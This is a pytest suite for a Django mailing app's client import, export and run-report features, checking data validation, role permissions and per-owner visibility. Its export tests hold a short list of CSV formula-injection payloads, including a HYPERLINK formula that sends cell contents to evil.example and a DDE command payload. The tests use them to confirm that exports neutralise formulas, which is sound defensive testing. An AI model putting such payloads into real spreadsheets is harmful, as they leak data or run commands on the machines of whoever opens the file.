"""Bulk import of clients (CSV, XLSX) and the exports: clients through
django-import-export, attempt reports as a streamed CSV — each limited to what the
person may see."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from apps.mailings import imports, selectors, services
from apps.mailings.models import Attempt, Client, ClientImport
from tests.factories import ClientFactory, MailingFactory

pytestmark = pytest.mark.django_db

IMPORT_URL = reverse("admin:mailings_client_import")
EXPORT_URL = reverse("admin:mailings_client_export")
ATTEMPTS_URL = reverse("admin:mailings_mailing_attempts_export")
CSV_FORMAT, XLSX_FORMAT = "0", "1"


def csv_file(rows: list[list[str]], name: str = "clients.csv") -> SimpleUploadedFile:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return SimpleUploadedFile(name, out.getvalue().encode(), "text/csv")


def xlsx_file(rows: list[list], name: str = "clients.xlsx") -> SimpleUploadedFile:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return SimpleUploadedFile(name, out.getvalue())


def preview_data(page, **changes) -> dict:
    """What the preview page's form posts as drawn, with ``changes``."""
    form = page.context["form"]
    data = {}
    for name in form.fields:
        value = form[name].value()
        data[name] = "" if value is None else value
    return {**data, **changes}


def confirm_import(http, job_url: str, **changes):
    """Press "Import" on a job's preview page (its columns as detected)."""
    page = http.get(job_url)
    assert page.status_code == 200, page.get("Location")
    return http.post(job_url, {**preview_data(page, **changes), "_import": "1"})


@pytest.fixture
def upload(django_capture_on_commit_callbacks):
    """upload(http, file, fmt) -> the response after the file was uploaded, its
    preview confirmed as detected, and the import ran (the queue is synchronous in
    tests; the task is queued when the confirmation commits)."""

    def _upload(http, file, fmt=CSV_FORMAT, follow=False, confirm=True):
        with django_capture_on_commit_callbacks(execute=True):
            response = http.post(IMPORT_URL, {"format": fmt, "import_file": file})
            if confirm and response.status_code == 302:
                response = confirm_import(http, response["Location"])
        if follow and response.status_code == 302:
            return http.get(response["Location"], follow=True)
        return response

    return _upload


def rows_of(response) -> list[list[str]]:
    body = (
        b"".join(response.streaming_content)
        if response.streaming
        else (response.content)
    )
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


# --- import --------------------------------------------------------------------


def test_alice_imports_a_csv_and_owns_every_new_client(alice, login, upload):
    file = csv_file(
        [
            ["email", "full_name", "comment"],
            ["ann@example.org", "Ann", "from the fair"],
            ["ben@example.org", "Ben", ""],
        ]
    )
    response = upload(login(alice), file)
    assert response.status_code == 302
    clients = Client.objects.filter(owner=alice).order_by("email")
    assert [c.email for c in clients] == ["ann@example.org", "ben@example.org"]
    for client in clients:
        assert selectors.can(alice, "change", client)
        assert selectors.can(alice, "delete", client)
    assert set(selectors.visible_clients(alice)) == set(clients)


def test_an_xlsx_imports_like_a_csv(alice, login, upload):
    file = xlsx_file([["Email", "Full name"], ["x@example.org", "Ex"], [None, None]])
    response = upload(login(alice), file, XLSX_FORMAT)
    assert response.status_code == 302
    assert Client.objects.get(owner=alice).full_name == "Ex"


def test_the_owner_column_of_a_file_is_ignored(alice, bob, login, upload):
    file = csv_file([["email", "owner"], ["c@example.org", str(bob.pk)]])
    upload(login(alice), file)
    assert Client.objects.get(email="c@example.org").owner == alice


def test_bad_rows_are_listed_with_their_line_and_nothing_is_imported(
    alice, login, upload
):
    file = csv_file(
        [
            ["email", "full_name"],
            ["good@example.org", "Good"],
            ["not-an-address", "Bad"],
            ["line@example.org", "Two\nlines"],
            ["long@example.org", "x" * 300],
            ["", "No address"],
            ["a" * 250 + "@example.org", ""],
        ]
    )
    response = upload(login(alice), file, follow=True)
    assert response.status_code == 200
    report = response.context["report"]
    assert [(e.line, e.column) for e in report.errors] == [
        (3, "email"),
        (4, "full_name"),
        (5, "full_name"),
        (6, "email"),
        (7, "email"),
    ]
    assert "Nothing was imported" in response.content.decode()
    assert not Client.objects.filter(owner=alice).exists()


def test_known_addresses_update_and_repeats_in_the_file_count_once(
    alice, login, upload
):
    ClientFactory(owner=alice, email="Known@Example.org", full_name="Old")
    file = csv_file(
        [
            ["email", "full_name", "comment"],
            ["known@example.org", "New name", "now a customer"],
            ["fresh@example.org", "First", ""],
            ["FRESH@example.org", "Second", ""],
        ]
    )
    upload(login(alice), file)
    known = Client.objects.get(owner=alice, email__iexact="known@example.org")
    assert (known.email, known.full_name, known.comment) == (
        "Known@Example.org",
        "New name",
        "now a customer",
    )
    assert Client.objects.get(
        owner=alice, email__iexact="fresh@example.org"
    ).full_name == ("First")
    assert Client.objects.filter(owner=alice).count() == 2


def test_the_same_address_kept_by_bob_is_imported_for_alice(alice, bob, login, upload):
    ClientFactory(owner=bob, email="shared@example.org", full_name="Bob's")
    upload(
        login(alice), csv_file([["email", "full_name"], ["shared@example.org", "A"]])
    )
    assert Client.objects.get(owner=bob).full_name == "Bob's"
    assert Client.objects.get(owner=alice).full_name == "A"


def test_a_file_without_an_email_column_waits_for_one_on_its_preview(
    alice, login, upload
):
    http = login(alice)
    response = upload(http, csv_file([["name"], ["Ann"]]), confirm=False)
    page = http.get(response["Location"])
    body = page.content.decode()
    assert "Choose the column that holds the e-mail addresses." in body
    assert 'name="_import"' not in body
    refused = confirm_import(http, response["Location"])
    assert refused.status_code == 200
    assert "e-mail" in str(refused.context["form"].errors)
    assert ClientImport.objects.get().status == ClientImport.Status.PREVIEW
    assert not Client.objects.exists()


def test_a_file_that_is_not_xlsx_is_refused_with_a_message(alice, login, upload):
    response = upload(login(alice), csv_file([["email"], ["a@example.org"]]), "1")
    assert response.status_code == 200
    assert response.context["form"].errors


@pytest.mark.parametrize("role", ["manager", "editor"])
def test_managers_and_editors_cannot_import(role, request, login, upload):
    http = login(request.getfixturevalue(role))
    assert http.get(IMPORT_URL).status_code == 403
    response = upload(http, csv_file([["email"], ["m@example.org"]]))
    assert response.status_code == 403
    assert not Client.objects.exists()


def test_anonymous_visitors_are_sent_to_the_login_page(client):
    response = client.get(IMPORT_URL)
    assert response.status_code == 302 and "/login/" in response["Location"]
    assert client.get(EXPORT_URL).status_code == 302
    assert client.get(ATTEMPTS_URL).status_code == 302


def test_alice_sees_the_import_page_and_its_rules(alice, login):
    response = login(alice).get(IMPORT_URL)
    assert response.status_code == 200
    assert "first row wins" in response.content.decode()


def test_import_queries_grow_with_batches_not_rows(alice):
    def queries_for(n: int) -> int:
        Client.objects.filter(owner=alice).delete()

        def rows():
            return ((i + 2, {"email": f"p{i}@example.org"}) for i in range(n))

        with CaptureQueriesContext(connection) as ctx:
            report = imports.clients_import(owner=alice, open_rows=rows, batch_size=50)
        assert report.created == n
        # Each batch is its own transaction (a savepoint inside the test's):
        # counted apart, as opening and closing it is not work on the rows.
        sql = [query["sql"] for query in ctx.captured_queries]
        control = [q for q in sql if q.startswith(("SAVEPOINT", "RELEASE SAVEPOINT"))]
        assert len(control) == 2 * (n // 50)
        return len(sql) - len(control)

    # Four times the batches: per batch one INSERT for clients and one for
    # permissions, one look-up of suppressed addresses, the progress note.
    small, large = queries_for(100), queries_for(400)
    assert large - small <= 4 * (400 - 100) // 50
    assert large < 400 // 10


# --- client export ---------------------------------------------------------------


def export(http, fmt=CSV_FORMAT, **extra):
    return http.post(EXPORT_URL, {"format": fmt, "resource": "0", **extra})


def test_alice_exports_only_her_clients(alice, bob, login):
    ClientFactory(owner=alice, email="mine@example.org")
    ClientFactory(owner=bob, email="bobs@example.org")
    response = export(login(alice))
    assert response.status_code == 200
    rows = rows_of(response)
    assert rows[0][:3] == ["email", "full_name", "comment"]
    assert [r[0] for r in rows[1:]] == ["mine@example.org"]
    assert "bobs@example.org" not in response.content.decode()


def test_an_exported_file_imports_back(alice, login, upload):
    ClientFactory(owner=alice, email="round@example.org", full_name="Round Trip")
    http = login(alice)
    body = export(http).content
    Client.objects.filter(owner=alice).delete()
    upload(http, SimpleUploadedFile("back.csv", body, "text/csv"))
    assert Client.objects.get(owner=alice).full_name == "Round Trip"


def test_the_export_follows_the_list_search(alice, login):
    ClientFactory(owner=alice, email="one@example.org")
    ClientFactory(owner=alice, email="two@example.org")
    response = login(alice).post(
        EXPORT_URL + "?q=two", {"format": CSV_FORMAT, "resource": "0"}
    )
    assert [r[0] for r in rows_of(response)[1:]] == ["two@example.org"]


def test_xlsx_export(alice, login):
    ClientFactory(owner=alice, email="sheet@example.org")
    response = export(login(alice), XLSX_FORMAT)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in next(sheet.iter_rows(min_row=2))][0] == "sheet@example.org"


def test_managers_export_every_client(alice, bob, manager, login):
    ClientFactory(owner=alice, email="mine@example.org")
    ClientFactory(owner=bob, email="bobs@example.org")
    rows = rows_of(export(login(manager)))
    assert sorted(r[0] for r in rows[1:]) == ["bobs@example.org", "mine@example.org"]


def test_editors_cannot_export_clients(editor, login):
    assert export(login(editor)).status_code == 403


FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1@ex.test",
    "-2+3",
    "\tcmd",
]


def _clients_with_formulas(owner) -> None:
    for i, payload in enumerate(FORMULA_PAYLOADS):
        # The factory skips validation: an address like "+1@ex.test" is valid, the
        # others could come from an older version or a direct database write.
        ClientFactory(owner=owner, email=f"{i}{payload}", full_name=payload)
    ClientFactory(owner=owner, email="+1@ex.test", full_name="Plus", comment="=1+1")


def test_the_client_csv_export_never_holds_a_formula(alice, login):
    _clients_with_formulas(alice)
    rows = rows_of(export(login(alice)))[1:]
    cells = [cell for row in rows for cell in row[:3] if cell]
    assert cells, rows
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    names = {row[1] for row in rows}
    assert {"'" + payload for payload in FORMULA_PAYLOADS} <= names
    assert ["'+1@ex.test", "Plus", "'=1+1"] in [row[:3] for row in rows]


def test_the_client_xlsx_export_never_holds_a_formula(alice, login):
    _clients_with_formulas(alice)
    response = export(login(alice), XLSX_FORMAT)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row[:3]]
    assert len(cells) == 3 * (len(FORMULA_PAYLOADS) + 1)
    for cell in cells:
        assert cell.data_type != "f", cell.value
        assert not str(cell.value or "").startswith(("=", "+", "-", "@")), cell.value
    names = {cell.value for row in sheet.iter_rows(min_row=2) for cell in row[1:2]}
    assert {"'" + payload for payload in FORMULA_PAYLOADS} <= names


def test_an_escaped_export_imports_back_unchanged(alice, login, upload):
    ClientFactory(owner=alice, email="+1@ex.test", full_name="-Dash", comment="=1+1")
    http = login(alice)
    body = export(http).content
    Client.objects.filter(owner=alice).delete()
    upload(http, SimpleUploadedFile("back.csv", body, "text/csv"))
    client = Client.objects.get(owner=alice)
    assert (client.email, client.full_name, client.comment) == (
        "+1@ex.test",
        "-Dash",
        "=1+1",
    )


def test_every_export_escapes_formulas_with_the_same_helper():
    from apps.mailings import exports, resources

    assert resources.spreadsheet_safe is exports.spreadsheet_safe
    assert exports.spreadsheet_safe("@x") == "'@x"
    assert exports.spreadsheet_safe("\rx") == "'\rx"
    assert exports.spreadsheet_safe("plain") == "plain"
    assert exports.spreadsheet_safe(3) == 3


# --- attempt reports ---------------------------------------------------------------


def _attempt(owner, response="250 OK"):
    mailing = MailingFactory(owner=owner)
    now = timezone.now()
    attempt = Attempt.objects.create(
        mailing=mailing,
        attempted_at=now,
        finished_at=now,
        status=Attempt.Status.PARTIAL,
        server_response=response,
        total_count=3,
        sent_count=2,
        failed_count=1,
    )
    services.attempt_created(attempt=attempt)
    return attempt


def test_alice_downloads_a_report_of_her_runs_only(alice, bob, login):
    mine = _attempt(alice, "250 mine")
    _attempt(bob, "250 bobs")
    response = login(alice).get(ATTEMPTS_URL)
    assert response.status_code == 200
    assert response.streaming
    rows = rows_of(response)
    assert len(rows) == 2
    assert rows[1][0] == str(mine.mailing_id)
    assert rows[1][5:] == ["3", "2", "1", "0", "250 mine"]


def test_the_report_of_one_mailing(alice, login):
    first, second = _attempt(alice), _attempt(alice)
    response = login(alice).get(ATTEMPTS_URL, {"mailing": second.mailing_id})
    assert [r[0] for r in rows_of(response)[1:]] == [str(second.mailing_id)]
    assert first.mailing_id != second.mailing_id


def test_a_server_reply_is_never_a_spreadsheet_formula(alice, login):
    _attempt(alice, "=HYPERLINK(1)")
    rows = rows_of(login(alice).get(ATTEMPTS_URL))
    assert rows[1][-1] == "'=HYPERLINK(1)"


def test_managers_download_every_run(alice, bob, manager, login):
    _attempt(alice)
    _attempt(bob)
    assert len(rows_of(login(manager).get(ATTEMPTS_URL))) == 3


def test_editors_cannot_download_run_reports(editor, login):
    assert login(editor).get(ATTEMPTS_URL).status_code == 403


def test_the_client_list_offers_import_and_export_to_alice(alice, login):
    body = login(alice).get(reverse("admin:mailings_client_changelist")).content
    assert IMPORT_URL.encode() in body and EXPORT_URL.encode() in body


def test_the_client_list_offers_managers_export_but_no_import(manager, login):
    body = login(manager).get(reverse("admin:mailings_client_changelist")).content
    assert IMPORT_URL.encode() not in body and EXPORT_URL.encode() in body


def test_a_superuser_imports_for_themselves_and_exports_everyone(
    superuser, alice, login, upload
):
    ClientFactory(owner=alice, email="alices@example.org")
    http = login(superuser)
    upload(http, csv_file([["email"], ["root-client@example.org"]]))
    assert Client.objects.get(email="root-client@example.org").owner == superuser
    emails = sorted(r[0] for r in rows_of(export(http))[1:])
    assert emails == ["alices@example.org", "root-client@example.org"]


def test_the_attempt_admin_action_streams_the_queryset_it_is_given(alice, bob):
    from apps.mailings.exports import export_attempts_csv

    mine = _attempt(alice, "250 mine")
    _attempt(bob, "250 bobs")
    response = export_attempts_csv(None, None, selectors.visible_attempts(alice))
    rows = rows_of(response)
    assert [r[0] for r in rows[1:]] == [str(mine.mailing_id)]


def test_the_attempt_list_exports_only_the_selected_runs_one_may_see(alice, bob, login):
    from django.utils import timezone

    from apps.mailings.models import Attempt
    from apps.mailings.services import grant_owner_permissions
    from tests.factories import MailingFactory

    def attempt_of(owner, response):
        attempt = Attempt.objects.create(
            mailing=MailingFactory(owner=owner),
            attempted_at=timezone.now(),
            finished_at=timezone.now(),
            status="success",
            server_response=response,
            total_count=1,
            sent_count=1,
        )
        grant_owner_permissions(owner=owner, objects=attempt)
        return attempt

    mine, theirs = attempt_of(alice, "250 alice-ok"), attempt_of(bob, "250 bob-ok")
    url = "/admin/mailings/attempt/"
    data = {"action": "export_attempts_csv", "_selected_action": [mine.pk, theirs.pk]}
    response = login(alice).post(url, data)
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    assert "alice-ok" in body
    assert "bob-ok" not in body
    # Bob selecting Alice's run gets a report without it.
    response = login(bob).post(url, {**data, "_selected_action": [mine.pk]})
    assert "alice-ok" not in b"".join(response.streaming_content).decode()
